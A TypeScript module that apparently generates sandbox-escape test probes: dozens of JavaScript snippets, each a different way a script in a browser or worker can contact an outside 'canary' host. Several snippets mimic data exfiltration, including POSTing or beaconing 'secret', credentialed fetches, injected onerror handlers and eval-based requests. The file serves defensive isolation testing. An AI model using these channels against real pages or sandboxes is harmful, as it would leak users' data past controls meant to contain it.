/** Ways in which a script may try to reach a host, as texts; knows no sandbox. */

/** In scope for each: `u`, an address of its own at the canary, `w` the same for a web socket, `stun` the canary's UDP port. */
export const PRELUDE = `
const el = (tag, attributes, into) => { const made = document.createElement(tag); for (const [k, v] of Object.entries(attributes)) made.setAttribute(k, v); (into || document.head || document.documentElement).append(made); return made; };
const inside = (html, into) => { const made = document.createElement('div'); made.innerHTML = html; (into || document.documentElement).append(made); return made; };
const css = (text) => { const made = document.createElement('style'); made.textContent = text; document.documentElement.append(made); inside('<p class=q>q</p>'); };
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const q = JSON.stringify(u);
`;

/** A worker has these too. */
export const ANYWHERE: Record<string, string> = {
  'fetch': 'await fetch(u)',
  'fetch no-cors': 'await fetch(u, { mode: "no-cors" })',
  'fetch post': 'await fetch(u, { method: "POST", mode: "no-cors", body: "secret" })',
  'fetch keepalive': 'await fetch(u, { keepalive: true, mode: "no-cors" })',
  'fetch with credentials': 'await fetch(u, { credentials: "include", mode: "no-cors" })',
  'fetch a request': 'await fetch(new Request(u, { mode: "no-cors", referrerPolicy: "unsafe-url" }))',
  'fetch with high priority': 'await fetch(u, { priority: "high", mode: "no-cors", cache: "force-cache" })',
  'fetch later': 'fetchLater(u)',
  'request': 'const x = new XMLHttpRequest(); x.open("GET", u); x.send()',
  'request at once': 'const x = new XMLHttpRequest(); x.open("GET", u, false); x.send()',
  'request upload': 'const x = new XMLHttpRequest(); x.upload.onprogress = () => {}; x.open("POST", u); x.send("secret")',
  'beacon': 'navigator.sendBeacon(u, "secret")',
  'web socket': 'new WebSocket(w)',
  'web socket stream': 'await new WebSocketStream(w).opened',
  'event source': 'new EventSource(u)',
  'web transport': 'await new WebTransport(u.replace("http:", "https:")).ready',
  'import scripts': 'importScripts(u)',
  'import': 'await import(u)',
  'import json': 'await import(u, { with: { type: "json" } })',
  'import by a blob': 'await import(blob("import " + q))',
  'import scripts by a blob': 'importScripts(blob("importScripts(" + q + ")"))',
  'worker': 'new Worker(u)',
  'module worker': 'new Worker(u, { type: "module" })',
  'worker that fetches': 'new Worker(blob("fetch(" + q + ", { mode: \'no-cors\' })"))',
  'worker that asks': 'new Worker(blob("const x = new XMLHttpRequest(); x.open(\'GET\', " + q + "); x.send()"))',
  'worker that imports scripts': 'new Worker(blob("importScripts(" + q + ")"))',
  'module worker that imports': 'new Worker(blob("import " + q), { type: "module" })',
  'worker in a worker': 'new Worker(blob("new Worker(URL.createObjectURL(new Blob([\'fetch(" + u + ")\'])))"))',
  'worker by data': 'new Worker("data:text/javascript," + encodeURIComponent("fetch(" + q + ", { mode: \'no-cors\' })"))',
  'shared worker': 'new SharedWorker(u)',
  'shared worker that fetches': 'new SharedWorker(blob("fetch(" + q + ")"))',
  'service worker': 'await navigator.serviceWorker.register(u)',
  'cache': 'await (await caches.open("c")).add(u)',
  'font face': 'const f = new FontFace("f", "url(" + u + ")"); await f.load()',
  'evaluated fetch': '(0, eval)("fetch(" + q + ", { mode: \'no-cors\' })")',
  'function that fetches': 'new Function("fetch(" + q + ", { mode: \'no-cors\' })")()',
  'timer with text': 'setTimeout("fetch(" + q + ", { mode: \'no-cors\' })")',
  'background fetch': 'await (await navigator.serviceWorker.ready).backgroundFetch.fetch("b", u)',
  'notification': 'new Notification("n", { icon: u })',
  'peer connection': 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + stun }] }); c.createDataChannel("d"); await c.setLocalDescription(await c.createOffer())',
  'parent that fetches': 'parent.postMessage({ requested: [u] }, "*")',
};

/** These need a document. */
const DOCUMENT: Record<string, string> = {
  'image': 'new Image().src = u',
  'image set': 'new Image().srcset = u + " 2x"',
  'picture': 'inside("<picture><source srcset=" + q + "><img></picture>")',
  'audio': 'new Audio(u).load()',
  'video': 'el("video", { src: u, preload: "auto" })',
  'poster': 'el("video", { poster: u }, document.documentElement)',
  'track': 'inside("<video><track default src=" + q + "></video>").firstChild.textTracks[0].mode = "showing"',
  'style sheet': 'el("link", { rel: "stylesheet", href: u })',
  'prefetch': 'el("link", { rel: "prefetch", href: u })',
  'preload script': 'el("link", { rel: "preload", as: "script", href: u })',
  'preload image': 'el("link", { rel: "preload", as: "image", href: u })',
  'module preload': 'el("link", { rel: "modulepreload", href: u })',
  'manifest': 'el("link", { rel: "manifest", href: u })',
  'script': 'el("script", { src: u })',
  'module script': 'el("script", { src: u, type: "module" })',
  'frame': 'el("iframe", { src: u }, document.documentElement)',
  'frame of text': 'el("iframe", { srcdoc: "<img src=" + q + ">" }, document.documentElement)',
  'frame of a blob': 'el("iframe", { src: blob("<img src=" + q + ">", "text/html") }, document.documentElement)',
  'object': 'el("object", { data: u }, document.documentElement)',
  'embed': 'el("embed", { src: u }, document.documentElement)',
  'style import': 'css("@import url(" + u + ")")',
  'background': 'css(".q { background: url(" + u + ") }")',
  'inline style': 'inside("<p style=\'background: url(" + u + ")\'>q</p>")',
  'list style': 'css(".q { display: list-item; list-style: url(" + u + ") }")',
  'mask': 'css(".q { mask: url(" + u + "#m) }")',
  'content': 'css(".q::after { content: url(" + u + ") }")',
  'font': 'css("@font-face { font-family: q; src: url(" + u + ") } .q { font-family: q }")',
  'svg image': 'inside("<svg><image href=" + q + " width=9 height=9 /></svg>")',
  'svg use': 'inside("<svg><use href=\'" + u + "#x\' /></svg>")',
  'svg filter': 'inside("<svg><filter id=f><feImage href=" + q + " /></filter><rect width=9 height=9 filter=url(#f) /></svg>")',
  'input': 'inside("<input type=image src=" + q + ">")',
  'body': 'inside("<table background=" + q + "><td>q</table>")',
  'handler': 'inside("<img src=x onerror=\'fetch(" + q + ")\'>")',
  'written': 'document.write("<img src=" + q + ">")',
  'worklet': 'await CSS.paintWorklet.addModule(u)',
  'audio worklet': 'await new AudioContext().audioWorklet.addModule(u)',
  'opened': 'open(u)',
  'ping': 'const a = el("a", { href: "#x", ping: u }, document.documentElement); a.click()',
  'peer connection in a frame': 'const f = el("iframe", {}, document.documentElement); const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + stun }] }); c.createDataChannel("d"); await c.setLocalDescription(await c.createOffer())',
};

/** These end the document that they are tried in. */
const LEAVING: Record<string, string> = {
  'location': 'location = u',
  'replaced location': 'location.replace(u)',
  'form': 'el("form", { action: u }, document.documentElement).submit()',
  'link': 'el("a", { href: u }, document.documentElement).click()',
  'refresh': 'el("meta", { "http-equiv": "refresh", content: "0; url=" + u })',
  'top': 'top.location = u',
  'navigation': 'navigation.navigate(u)',
};

export interface Probe { name: string; leaves: boolean; code: string }

/** `address` is the canary's, ending in a slash; what arrives there names the probe by its number. */
export function probes(address: string, stun: number): Probe[] {
  const list = (from: Record<string, string>, leaves: boolean): Omit<Probe, 'code'>[] => Object.keys(from).map(name => ({ name, leaves }));
  const all = { ...ANYWHERE, ...DOCUMENT, ...LEAVING };
  return [...list({ ...ANYWHERE, ...DOCUMENT }, false), ...list(LEAVING, true)].map((probe, i) => {
    const at = `const u = ${JSON.stringify(`${address}hit-${i}`)}, w = u.replace('http', 'ws'), stun = ${stun};`;
    return { ...probe, code: `${at}\n${PRELUDE}\n${all[probe.name]!};` };
  });
}
